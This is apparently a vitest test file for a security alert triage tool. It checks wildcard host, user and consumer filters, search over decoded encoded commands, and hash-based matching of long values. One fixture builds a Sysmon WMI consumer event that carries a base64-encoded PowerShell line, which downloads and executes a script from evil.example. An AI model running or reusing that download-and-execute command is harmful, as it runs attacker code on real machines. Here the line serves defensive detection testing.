import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "@/lib/auth/permissions";
import { listAlertGroups } from "@/lib/data/alert-groups";
import { listAlerts, parseAlertFilter } from "@/lib/data/alert-list";
import { closeDb } from "@/lib/db/client";
import { exactFilterValue } from "@/lib/format/filter-value";
import { seedUserAndAlerts } from "@/lib/services/testing/alert-fixture";
import { sysmon20Doc, sysmon21Doc } from "@/lib/triage/testing/sysmon-docs";

// This file's alerts live on hosts named `${run}-…`; every query pins them with q or host.
const run = `af${process.pid}x${Date.now()}`;
const lead: Actor = { id: `${run}-lead`, role: "lead", name: "Lee Filter" };
const LONG = `L${"x".repeat(20_000)}`;
const PAYLOAD = "Invoke-WebRequest http://evil.example/stage2.ps1 | iex";
const ENCODED = Buffer.from(PAYLOAD, "utf16le").toString("base64");

const at = (minute: number) => new Date(Date.UTC(2029, 7, 1, 9, minute)).toISOString();
const binding = (host: string, consumer: string, minute: number, user: string) =>
  sysmon21Doc({ host, consumer, at: at(minute), user: { name: user } });
const consumerEvent = (host: string, consumer: string, minute: number, destination: string) =>
  sysmon20Doc({ host, consumer, at: at(minute), destination });

const docs = [
  binding(`${run}-SRV-01`, "Updater", 1, "Alice"),
  binding(`${run}-srv-02`, "SCCM Inventory", 2, "bob"),
  consumerEvent(`${run}-wks-01`, "Beacon", 2, `powershell.exe -NoProfile -EncodedCommand ${ENCODED}`),
  binding(`${run}-wks-01`, "Beacon", 3, "carol"),
  binding(`${run}-wks-02`, LONG, 4, "dave"),
];
const names = async (params: Record<string, string>) =>
  (await listAlerts(lead, parseAlertFilter(params))).rows.map((r) => r.hostName).sort();

beforeAll(async () => {
  const summary = await seedUserAndAlerts(lead, `${run}.ndjson`, docs);
  expect(summary.alerts).toBe(4);
});

afterAll(async () => {
  await closeDb();
});

describe("alerts list filters", () => {
  it("host, user and consumer filters are case-insensitive and take * wildcards, as KQL users type them", async () => {
    expect(await names({ host: `${run.toUpperCase()}-srv*` })).toEqual([`${run}-SRV-01`, `${run}-srv-02`]);
    expect(await names({ host: `${run}-srv-01` })).toEqual([`${run}-SRV-01`]);
    expect(await names({ host: `*${run.slice(2)}-WKS-0*` })).toEqual([`${run}-wks-01`, `${run}-wks-02`]);
    expect(await names({ q: run, user: "ALICE" })).toEqual([`${run}-SRV-01`]);
    expect(await names({ q: run, consumer: "*inventory" })).toEqual([`${run}-srv-02`]);
    expect(await names({ q: run, consumer: "sccm*inv*" })).toEqual([`${run}-srv-02`]);
    // a literal star escaped, LIKE's own _ and % as themselves
    expect(await names({ q: run, consumer: "Upd_ter" })).toEqual([]);
  });

  it("free-text search finds the decoded payload text of an encoded consumer", async () => {
    expect(await names({ host: `${run}-*`, q: "evil.example/stage2" })).toEqual([`${run}-wks-01`]);
    expect(await names({ host: `${run}-*`, q: "INVOKE-WEBREQUEST http://evil.example" })).toEqual([`${run}-wks-01`]);
  });

  it("a 20,000-character consumer filters through a short sha256: value, matched exactly; the group-by link stays short", async () => {
    const value = exactFilterValue(LONG);
    expect(value).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(await names({ q: run, consumer: value })).toEqual([`${run}-wks-02`]);
    // a different long value with the same first 300 characters matches nothing
    expect(await names({ q: run, consumer: exactFilterValue(`${LONG}y`) })).toEqual([]);
    // typed long values are never dropped silently (the list would show every alert): they filter by hash
    expect(await names({ q: run, consumer: LONG })).toEqual([`${run}-wks-02`]);
    const groups = (await listAlertGroups(lead, parseAlertFilter({ q: run, group: "consumer" }), "consumer")).groups;
    const long = groups.find((g) => g.key === LONG)!;
    expect(long.count).toBe(1);
    expect(`/alerts?consumer=${encodeURIComponent(exactFilterValue(long.key!))}`.length).toBeLessThan(100);
  });
});
